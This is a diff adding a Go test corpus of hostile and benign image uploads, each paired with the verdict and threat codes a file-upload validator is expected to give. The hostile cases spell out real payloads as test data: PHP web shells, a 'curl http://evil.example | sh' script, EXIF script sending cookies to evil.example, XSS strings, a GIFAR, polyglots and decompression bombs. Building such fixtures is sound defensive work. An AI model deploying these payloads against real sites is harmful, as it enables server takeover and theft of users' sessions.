@@ -1,0 +1,168 @@
+package uploadcorpus
+
+import (
+	"bytes"
+	"image"
+
+	"github.com/secmon-go/secmon"
+)
+
+// Case is one upload with the verdict a conforming validator gives it.
+type Case struct {
+	Name        string
+	Upload      secmon.Upload
+	WantAllowed bool
+	// WantCodes are threat codes a conforming validator must report; it
+	// may report more (a PNG with a ZIP appended is both trailing_data and
+	// embedded_archive, and a validator may add corrupt if it also fails
+	// a CRC).
+	WantCodes []string
+}
+
+// OversizedBytes is the size of the oversized case: 6 MiB, over the PRD's
+// 5 MB limit.
+const OversizedBytes = 6 << 20
+
+func up(name, typ string, data []byte) secmon.Upload {
+	return secmon.Upload{Name: name, DeclaredType: typ, Data: data}
+}
+
+func codes(c ...string) []string { return c }
+
+// Hostile returns uploads a validator must block, each built in memory on
+// every call (the slices are the caller's to keep or change).
+func Hostile() []Case {
+	small := encodePNG(chartImage(32, 24))
+	jpg := encodeJPEG(chartImage(32, 24), 90)
+	gf := stillGIF(16, 16)
+
+	oversized := make([]byte, OversizedBytes)
+	copy(oversized, small)
+
+	polyGIF := stillGIF(1, 1)
+	copy(polyGIF[6:8], "/*") // logical screen width 0x2A2F opens a JS comment
+	polyGIF = gifWith(polyGIF, gifExtension(0xfe, []byte("*/")))
+	polyGIF = append(polyGIF, "=alert(1);//"...)
+
+	pdf := []byte("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n" +
+		"2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
+
+	noRIFF := append([]byte("XXXX"), webpLossless1x1[4:]...)
+
+	bombPNG := append([]byte("\x89PNG\r\n\x1a\n"), pngChunk("IHDR", []byte{0, 0, 0x4e, 0x20, 0, 0, 0x4e, 0x20, 8, 2, 0, 0, 0})...)
+	bombPNG = append(bombPNG, pngChunk("IDAT", deflate(make([]byte, 60001)))...)
+	bombPNG = append(bombPNG, pngChunk("IEND", nil)...)
+
+	bombGIF := stillGIF(1, 1)
+	copy(bombGIF[6:10], []byte{0xff, 0xff, 0xff, 0xff}) // 65535×65535 screen
+
+	ztxt := append([]byte("Comment\x00\x00"), zlibBomb()...)
+
+	svg := []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">` +
+		`<rect width="10" height="10"/><script>alert(document.domain)</script></svg>`)
+
+	exifScript := tiffLE([]tiffEntry{
+		asciiEntry(0x010e, `<script>fetch("//evil.example/"+document.cookie)</script>`),
+		asciiEntry(0x010f, "Canon"),
+	}, nil)
+	xpComment := tiffLE([]tiffEntry{asciiEntry(0x010f, "Canon"), utf16Entry(0x9c9c, "<?php system($_GET['c']); ?>")}, nil)
+
+	return []Case{
+		{"oversized", up("chart.png", "image/png", oversized), false, codes(secmon.ThreatSizeExceeded)},
+		{"fake_extension_png_as_jpg", up("chart.jpg", "image/jpeg", small), false, codes(secmon.ThreatTypeMismatch)},
+		{"png_named_php", up("chart.php", "image/png", small), false, codes(secmon.ThreatTypeMismatch)},
+		{"pe_executable_as_png", up("chart.png", "image/png", peBytes()), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"elf_executable_as_jpg", up("chart.jpg", "image/jpeg", elfBytes()), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"shebang_script_as_gif", up("chart.gif", "image/gif", []byte("#!/bin/sh\ncurl http://evil.example | sh\n")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"html_as_png", up("chart.png", "image/png", []byte("<!DOCTYPE html><html><body><script>alert(1)</script></body></html>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"php_as_jpg", up("chart.jpg", "image/jpeg", []byte("<?php system($_GET['c']); ?>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"zip_as_png", up("chart.png", "image/png", zipBytes("index.html", "<script>alert(1)</script>")), false, codes(secmon.ThreatTypeMismatch, secmon.ThreatDisallowedType)},
+		{"jpeg_exif_script", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(exifScript))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"jpeg_exif_xpcomment_utf16_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(xpComment))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"jpeg_com_php", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xfe, []byte("<?php eval($_POST['x']); ?>")))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"jpeg_xmp_event_handler", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xe1, []byte("http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta><svg onload =alert(1)></x:xmpmeta>")))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"png_text_event_handler", up("chart.png", "image/png", pngWith(small, pngChunk("tEXt", []byte("Comment\x00<img src=x onerror=alert(1)>")))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"png_ztxt_script", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", append([]byte("Comment\x00\x00"), deflate([]byte("<script>alert(1)</script>"))...)))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"png_zip_appended", up("chart.png", "image/png", append(bytes.Clone(small), zipBytes("shell.php", "<?php system($_GET['c']); ?>")...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatEmbeddedArchive)},
+		{"png_html_appended", up("chart.png", "image/png", append(bytes.Clone(small), "<html><body><script>alert(document.cookie)</script></body></html>"...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatHTMLContent)},
+		{"gifar", up("avatar.gif", "image/gif", append(bytes.Clone(gf), zipBytes("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\nMain-Class: Exploit\n", "Exploit.class", "\xca\xfe\xba\xbe")...)), false, codes(secmon.ThreatTrailingData, secmon.ThreatEmbeddedArchive)},
+		{"gif_js_polyglot", up("chart.gif", "image/gif", polyGIF), false, codes(secmon.ThreatPolyglot)},
+		{"gif_comment_script", up("chart.gif", "image/gif", gifWith(gf, gifExtension(0xfe, []byte("<script>alert(1)</script>")))), false, codes(secmon.ThreatScriptInMetadata)},
+		{"jpeg_pdf_polyglot", up("photo.jpg", "image/jpeg", jpegWith(jpg, jpegSegment(0xfe, pdf))), false, codes(secmon.ThreatPolyglot)},
+		{"webp_without_riff", up("chart.webp", "image/webp", noRIFF), false, codes(secmon.ThreatDisallowedType)},
+		{"webp_exif_script", up("chart.webp", "image/webp", webpExtended(tiffLE([]tiffEntry{asciiEntry(0x013b, "<iframe src=javascript:alert(1)>")}, nil), nil)), false, codes(secmon.ThreatScriptInMetadata)},
+		{"pixel_bomb_png", up("chart.png", "image/png", bombPNG), false, codes(secmon.ThreatPixelBomb)},
+		{"pixel_bomb_gif", up("chart.gif", "image/gif", bombGIF), false, codes(secmon.ThreatPixelBomb)},
+		{"truncated_png", up("chart.png", "image/png", bytes.Clone(small[:len(small)/2])), false, codes(secmon.ThreatCorrupt)},
+		{"truncated_jpeg", up("photo.jpg", "image/jpeg", bytes.Clone(jpg[:len(jpg)*2/3])), false, codes(secmon.ThreatCorrupt)},
+		{"goexif_count_overflow", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(countOverflowTIFF()))), false, codes(secmon.ThreatCorrupt)},
+		{"goexif_ifd_loop", up("photo.jpg", "image/jpeg", jpegWith(jpg, exifAPP1(ifdLoopTIFF()))), false, codes(secmon.ThreatCorrupt)},
+		{"png_ztxt_bomb", up("chart.png", "image/png", pngWith(small, pngChunk("zTXt", ztxt))), false, codes(secmon.ThreatCorrupt)},
+		{"svg_script", up("chart.svg", "image/svg+xml", svg), false, codes(secmon.ThreatDisallowedType)},
+	}
+}
+
+// Benign returns uploads a validator must allow: plain PNG, JPEG, GIF and
+// WebP files, and files carrying ordinary metadata (EXIF with an
+// orientation, XMP, an ICC profile, PNG text chunks, a GIF comment).
+func Benign() []Case {
+	img := chartImage(32, 24)
+	small := encodePNG(img)
+	jpg := encodeJPEG(img, 90)
+
+	exif := tiffLE([]tiffEntry{
+		asciiEntry(0x010e, "Quarterly revenue chart"),
+		asciiEntry(0x010f, "Canon"),
+		asciiEntry(0x0110, "Canon EOS 5D Mark IV"),
+		shortEntry(0x0112, 6),
+		asciiEntry(0x0131, "chartlib 1.0"),
+		utf16Entry(0x9c9c, "Revenue by region, Q3"),
+	}, []tiffEntry{
+		asciiEntry(0x9003, "2024:09:30 17:45:00"),
+		undefinedEntry(0x9286, []byte("ASCII\x00\x00\x00Shot on a tripod; exposure +1/3")),
+	})
+	xmp := []byte(`<?xpacket begin="` + "\ufeff" + `" id="W5M0MpCehiHzreSzNTczkc9d"?>` +
+		`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">` +
+		`<rdf:Description rdf:about="" xmlns:tiff="http://ns.adobe.com/tiff/1.0/" xmlns:exif="http://ns.adobe.com/exif/1.0/"` +
+		` tiff:Orientation="6" exif:FocalPlaneResolutionUnit="2" exif:PixelXDimension="32"/>` +
+		`</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`)
+	icc := append([]byte("ICC_PROFILE\x00\x01\x01"), bytes.Repeat([]byte{0, 0, 2, 0x0c, 'l', 'c', 'm', 's'}, 16)...)
+
+	pngMeta := pngWith(small,
+		pngChunk("gAMA", []byte{0, 0, 0xb1, 0x8f}),
+		pngChunk("pHYs", []byte{0, 0, 0x0b, 0x13, 0, 0, 0x0b, 0x13, 1}),
+		pngChunk("tEXt", []byte("Software\x00chartlib 1.0")),
+		pngChunk("zTXt", append([]byte("Comment\x00\x00"), deflate([]byte("Generated for the Q3 review; questions to finance@example.com"))...)),
+		pngChunk("iTXt", []byte("Title\x00\x00\x00en\x00Title\x00Quarterly revenue")),
+		pngChunk("tIME", []byte{0x07, 0xe8, 9, 30, 17, 45, 0}),
+		pngChunk("eXIf", tiffLE([]tiffEntry{asciiEntry(0x0131, "chartlib 1.0"), shortEntry(0x0112, 1)}, nil)),
+	)
+
+	return []Case{
+		{Name: "png", Upload: up("chart.png", "image/png", small), WantAllowed: true},
+		{Name: "jpeg", Upload: up("photo.jpeg", "image/jpeg; charset=binary", bytes.Clone(jpg)), WantAllowed: true},
+		{Name: "gif_animated", Upload: up("chart.gif", "image/gif", animatedGIF(16, 12)), WantAllowed: true},
+		{Name: "webp_lossless", Upload: up("chart.webp", "image/webp", bytes.Clone(webpLossless1x1)), WantAllowed: true},
+		{Name: "webp_with_metadata", Upload: up("chart.webp", "image/webp", webpExtended(tiffLE([]tiffEntry{asciiEntry(0x0131, "chartlib 1.0")}, nil), xmp)), WantAllowed: true},
+		{Name: "jpeg_with_exif_xmp_icc", Upload: up("IMG_0042.JPG", "image/jpeg", jpegWith(jpg,
+			jpegSegment(0xe1, append([]byte("Exif\x00\x00"), exif...)),
+			jpegSegment(0xe1, append([]byte("http://ns.adobe.com/xap/1.0/\x00"), xmp...)),
+			jpegSegment(0xe2, icc),
+			jpegSegment(0xfe, []byte("Created with chartlib 1.0 (one-click export)")),
+		)), WantAllowed: true},
+		{Name: "png_with_text", Upload: up("chart.png", "", pngMeta), WantAllowed: true},
+		{Name: "gif_with_comment", Upload: up("chart.gif", "image/gif", gifWith(stillGIF(16, 16), gifExtension(0xfe, []byte("Made with chartlib; loads on every browser")))), WantAllowed: true},
+	}
+}
+
+// PhotoPNG returns a photo-like PNG (smooth colour fields with per-pixel
+// noise) as close to maxBytes as a few trial encodings get without going
+// over. It is meant for performance tests of upload paths.
+func PhotoPNG(maxBytes int) []byte {
+	return sized(maxBytes, func(img image.Image) []byte { return encodePNG(img) })
+}
+
+// PhotoJPEG is PhotoPNG for JPEG at quality 95.
+func PhotoJPEG(maxBytes int) []byte {
+	return sized(maxBytes, func(img image.Image) []byte { return encodeJPEG(img, 95) })
+}
